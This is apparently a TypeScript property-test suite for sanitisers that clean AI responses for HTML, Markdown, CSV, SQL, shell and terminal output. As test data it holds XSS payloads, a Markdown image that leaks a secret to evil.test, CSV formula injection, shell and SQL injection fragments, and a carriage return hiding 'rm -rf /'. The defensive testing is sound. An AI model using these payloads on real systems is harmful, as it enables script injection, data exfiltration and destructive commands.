import * as fc from 'fast-check';
import MarkdownIt from 'markdown-it';
import { marked } from 'marked';
import { allowedHosts, allowsDestination } from '../../../lambda/guard/response/sinks/allowed-hosts';
import { controlCharacters } from '../../../lambda/guard/response/sinks/control-characters';
import { csvSink } from '../../../lambda/guard/response/sinks/csv';
import { htmlSink } from '../../../lambda/guard/response/sinks/html';
import { markdownSink } from '../../../lambda/guard/response/sinks/markdown';
import { shellSink, sqlSink } from '../../../lambda/guard/response/sinks/quoted';
import type { TextStage } from '../../../lambda/guard/response/text-stage';
import { allCuts, piecesOf, throughStage } from './splits';

const allows = allowedHosts(['docs.example.com', '*.good.test']);
const STAGES: Record<string, { make: () => TextStage; parts: string[] }> = {
  'control characters': {
    make: controlCharacters,
    parts: [
      'a',
      ' ',
      '\n',
      '\r',
      '\r\n',
      '\u001b',
      '[31m',
      '\u001b[0m',
      ']8;;https://x.test',
      '\u0007',
      '\u001b\\',
      '\u009b',
      '1A',
      '\u202e',
      '\udb40',
      '\udc41',
      '\ud83d\ude00',
      '\u0000',
    ],
  },
  html: {
    make: htmlSink,
    parts: [
      '<script>',
      'javascript:',
      'java',
      '\n',
      'script:',
      'data',
      ':',
      'vb',
      '&',
      '"',
      "'",
      ' ',
      'x',
      'd',
      'j',
      '`',
      '>',
    ],
  },
  csv: {
    make: csvSink,
    parts: ['=1+1', ',', '-5', '+', '-', '@SUM', '"', '\n', '\r', '\t', ' ', 'a', '3.2', '%', ';', '\uff1d', 'e5'],
  },
  sql: { make: sqlSink, parts: ["'", '\\', 'a', '\0', ';', '--'] },
  shell: { make: shellSink, parts: ["'", '$(x)', '`', '\0', 'a', '\n'] },
  markdown: {
    make: () => markdownSink(allows),
    parts: [
      '`',
      '``',
      '```',
      '```js\n',
      '~~~',
      '\n',
      '\n\n',
      ' ',
      '    ',
      '<script>',
      '<img src=x onerror=alert(1)>',
      '<',
      '>',
      '![a](',
      '[a](',
      'http://evil.test/x?d=1',
      'https://docs.example.com/a',
      '_(y',
      ')',
      '[a]: ',
      '[a]',
      'javascript:alert(1)',
      '\\',
      '|',
      '- ',
      '> ',
      '1. ',
      'www.evil.test',
      'h',
      'www',
      'ht',
      'tps://',
      'a',
      '"t"',
      ':',
      '|---|\n',
      '<https://docs.example.com/x>',
      'https://docs.example.com',
      '//evil.test/x',
      "'x.evil.test",
      '@evil.test/',
      '!',
      'guide.md',
      '#top',
      '\t',
    ],
  },
};

describe.each(Object.entries(STAGES))('the %s stage', (_name, { make, parts }) => {
  test('says the same however its text is cut', () => {
    fc.assert(
      fc.property(piecesOf(parts), ({ text, pieces }) => {
        const whole = throughStage(make(), [text]);
        expect(throughStage(make(), pieces)).toBe(whole);
        expect(throughStage(make(), [...text])).toBe(whole);
      }),
      { numRuns: 600 },
    );
  });

  test('says the same for every cut in two', () => {
    const text = parts.join('').repeat(2);
    const whole = throughStage(make(), [text]);
    for (const cut of allCuts(text)) expect(throughStage(make(), cut)).toBe(whole);
  });
});

describe('the Markdown sink', () => {
  const through = (text: string): string => throughStage(markdownSink(allows), [text]);
  const markdownIt = new MarkdownIt({ html: true, linkify: true });
  const RENDERERS: Record<string, (text: string) => string> = {
    'markdown-it': (text) => markdownIt.render(text),
    marked: (text) => marked.parse(text, { async: false, gfm: true }),
  };
  /** As a browser reads it (WHATWG URL): no host at all, or the allowed one with signs that a reader would leave out. */
  const leadsNowhereElse = (address: string): boolean => {
    try {
      const { protocol, hostname } = new URL(address, 'https://page.good.test/');
      return /^https?:$/.test(protocol) && allows(hostname.replace(/[)'"*_~,;!.]+$/, ''));
    } catch {
      return true;
    }
  };
  /** Tags that Markdown itself makes, with the addresses that are allowed. */
  const danger = (html: string): string | undefined => {
    for (const [tag] of html.matchAll(/<[a-z/!?][^>]*>?/gi)) {
      if (
        /^<\/?(?:p|h[1-6]|ul|ol|li|em|strong|del|s|code|pre|blockquote|hr|br|table|thead|tbody|tr|th|td)(?: (?:class|start|align|style)="[^"<>]*")*\s*\/?>$/.test(
          tag,
        )
      )
        continue;
      if (/^<\/a>$|^<input (?:checked="" )?disabled="" type="checkbox">$/.test(tag)) continue;
      const target = /^<(?:a|img)(?: (?:alt|title)="[^"]*")* (?:href|src)="([^"]*)"/.exec(tag)?.[1];
      if (target !== undefined && allowsDestination(target.replaceAll('&amp;', '&'), allows)) continue;
      if (target !== undefined && /^mailto:/.test(target)) continue;
      if (target !== undefined && leadsNowhereElse(target.replaceAll('&amp;', '&'))) continue;
      return tag;
    }
    return undefined;
  };

  test.each(Object.entries(RENDERERS))('leaves nothing alive for %s', (_name, render) => {
    fc.assert(
      fc.property(piecesOf(STAGES.markdown?.parts ?? [], 40), ({ text }) => {
        expect(danger(render(through(text)))).toBeUndefined();
      }),
      { numRuns: 3000 },
    );
  });

  test('the check itself notices what is alive', () => {
    for (const alive of [
      '<script>x</script>',
      '![a](http://evil.test/x)',
      '<img src=x onerror=alert(1)>',
      '[a](http://evil.test "t")',
      '<b onclick=x>',
      'https://docs.example.com!@evil.test/',
      "https://docs.example.com'x.evil.test/",
      '//evil.test/x',
    ]) {
      expect(
        danger(
          Object.values(RENDERERS)
            .map((render) => render(alive))
            .join('') + alive,
        ),
      ).toBeDefined();
    }
  });

  test.each([
    ['prose', 'Hello, *world*. 2 < 3 and a > b. It costs $5, or "five".\n\n- one\n- two\n'],
    ['a fenced block', 'Use:\n\n```html\n<script>alert("x")</script>\n<img src="http://evil.test/a">\n```\n\nDone.\n'],
    ['a fence of tildes', '~~~\n<b>`x`</b>\n~~~\n'],
    ['a code span', 'Write `<div onclick="x">` or ``a ` b``.\n'],
    ['a list of types', 'Call `Map<string, number>` and array[i]: number.\n'],
    [
      'an allowed link',
      'See [the guide](https://docs.example.com/guide#a "Guide") and ![logo](https://img.good.test/x.png).\n',
    ],
    ['a link below the page', 'See [below](#usage) and [the other page](docs/other.md).\n'],
    ['a table', '| a | b |\n|---|---|\n| 1 | 2 |\n'],
    ['an allowed address', 'It is at https://docs.example.com/x?y=1.\n'],
    [
      'an allowed host',
      'See (https://docs.example.com), **https://docs.example.com**: "https://docs.example.com!" or |https://docs.example.com|x|\n',
    ],
    ['an allowed host as its own link', '[https://docs.example.com](https://docs.example.com): that.\n'],
    ['slashes', 'and/or, 1//2, file:///tmp/a, s3://bucket.name/key, // a remark. See //docs.example.com/x.\n'],
    ['words that start like an address', 'We want the whole thing; http is a protocol; www is not one; ftp neither.\n'],
  ])('leaves %s as it is, byte for byte', (_name, text) => {
    expect(through(text)).toBe(text);
  });

  test.each([
    ['an address without a scheme', 'x //evil.test/a', 'x //evil[.]test/a'],
    [
      'an address behind an allowed one',
      'https://docs.example.com!@evil.test/',
      'https[:]//docs[.]example[.]com!@evil.test/',
    ],
    [
      'a host below another one',
      "https://docs.example.com'x.evil.test/",
      "https[:]//docs[.]example[.]com'x.evil.test/",
    ],
    [
      'a host that an escape makes another one',
      'https://docs.example.com<x.evil.test/',
      'https[:]//docs[.]example[.]com&lt;x.evil.test/',
    ],
    [
      'one that goes on after a link',
      'a](https://docs.example.com)x.evil.test/',
      'a] (https[:]//docs[.]example[.]com)x.evil.test/',
    ],
    [
      'one that goes on with a mark of byte order',
      'https://docs.example.com\ufeffx.evil.test/',
      'https[:]//docs[.]example[.]com\ufeffx.evil.test/',
    ],
    ['a tag', '<script>x</script>', '&lt;script>x&lt;/script>'],
    ['an image elsewhere', '![x](https://evil.test/p?d=secret)', '![x] (https[:]//evil[.]test/p?d=secret)'],
    ['a link elsewhere', '[x](//evil.test)', '[x] (//evil[.]test)'],
    ['a script link', '[x](javascript:alert(1))', '[x] (javascript:alert(1))'],
    ['a definition', '[x]: javascript:alert(1)', '[x] : javascript:alert(1)'],
    [
      'a host that only begins like an allowed one',
      'https://docs.example.com.evil.test/',
      'https[:]//docs[.]example[.]com[.]evil[.]test/',
    ],
    [
      'an allowed host as a user name',
      'https://docs.example.com@evil.test/',
      'https[:]//docs[.]example[.]com@evil.test/',
    ],
    ['a fence in a list, which may end with the list', '- a\n  ```\n  x\ny <b>', '- a\n  ```\n  x\ny &lt;b>'],
    ['code after a stray backtick', 'a ` b\n` <b> `', 'a ` b\n` &lt;b> `'],
    ['a span across cells', '| ` | <b> | ` |', '| ` | &lt;b> | ` |'],
    ['an escaped backtick', '\\` <b> `', '\\` &lt;b> `'],
  ])('takes the life out of %s', (_name, text, safe) => {
    expect(through(text)).toBe(safe);
  });
});

describe('the HTML sink', () => {
  test('leaves no character that could be markup, and no scheme that runs', () => {
    fc.assert(
      fc.property(piecesOf(STAGES.html?.parts ?? []), ({ text }) => {
        const safe = throughStage(htmlSink(), [text]);
        expect(safe).not.toMatch(/[<>"'`]/);
        expect(safe.replace(/&(?:amp|lt|gt|quot|#39|#96);/g, '')).not.toContain('&');
        expect(safe.replace(/[\t\n\r]/g, '')).not.toMatch(/(?<![a-z0-9]|unsafe:)(?:javascript|vbscript|data):/i);
      }),
    );
  });
});

test.each([10, 60, 70, 500])('%d breaks inside of a scheme, which browsers drop, hide nothing', (breaks) => {
  expect(throughStage(htmlSink(), [`j${'\t\n'.repeat(breaks / 2)}avascript:alert(1)`])).toMatch(/^unsafe:j/);
});

describe('the quoting sinks', () => {
  test('a shell word reads back as the text', () => {
    fc.assert(
      fc.property(piecesOf(STAGES.shell?.parts ?? []), ({ text }) => {
        const word = throughStage(shellSink(), [text]);
        // between single quotes nothing is special: taking them away gives the text back.
        expect(word.replace(/'\\''/g, '\u0001').replaceAll("'", '').replaceAll('\u0001', "'")).toBe(
          text.replaceAll('\0', ''),
        );
        expect(word).toMatch(/^'[^']*(?:'\\''[^']*)*'$/);
      }),
    );
  });

  test('a SQL literal has no quote that ends it early', () => {
    fc.assert(
      fc.property(piecesOf(STAGES.sql?.parts ?? []), ({ text }) => {
        expect(throughStage(sqlSink(), [text])).toMatch(/^'(?:[^'\\]|''|\\\\)*'$/);
      }),
    );
  });
});

describe('the CSV sink', () => {
  test.each([
    ['=1+1', "'=1+1"],
    ['a,=cmd|x', "a,'=cmd|x"],
    ['-5,+3.2,-1e5', '-5,+3.2,-1e5'],
    ['-1+1', "'-1+1"],
    ['"=1"', '"\'=1"'],
    ['a=b,c-d', 'a=b,c-d'],
    [' @SUM', " '@SUM"],
    ['\uff1d1', "'\uff1d1"],
    ['\ufe661', "'\ufe661"],
    ['\ufeff=1', "\ufeff'=1"],
    ['a,\u00a0=1', "a,\u00a0'=1"],
    ['a;\u3000\u200b+1+x', "a;\u3000\u200b'+1+x"],
    ['a\t=1', "a\t'=1"],
    ['a\u00a0=b', 'a\u00a0=b'],
  ])('%j becomes %j', (text, safe) => {
    expect(throughStage(csvSink(), [text])).toBe(safe);
  });
});

describe('control characters', () => {
  test.each([
    ['colour', 'a\u001b[31mred\u001b[0m', 'ared'],
    ['a terminal link', '\u001b]8;;https://evil.test\u0007click\u001b]8;;\u0007', 'click'],
    ['a carriage return that hides a line', 'safe\rrm -rf /', 'saferm -rf /'],
    ['a Windows line end', 'a\r\nb', 'a\r\nb'],
    ['a bidirectional override', 'a\u202eb', 'ab'],
    ['tag characters', 'a\udb40\udc41b', 'ab'],
    ['half of one before an escape', 'a\udb40\u001b[31mb', 'a\ufffdb'],
    ['an emoji', 'ok \ud83d\udc4d', 'ok \ud83d\udc4d'],
    ['a sequence that never ends', `\u001b]${'x'.repeat(3000)}`, `]${'x'.repeat(3000)}`],
  ])('%s', (_name, text, safe) => {
    expect(throughStage(controlCharacters(), [text])).toBe(safe);
  });
});

test.each(['', 'EXAMPLE.com', 'a..b', 'https://x', '*.', 'x/y'])('fails when the allowed host is %j', (pattern) => {
  expect(() => allowedHosts([pattern])).toThrow(/expected a lower-case host name/);
});
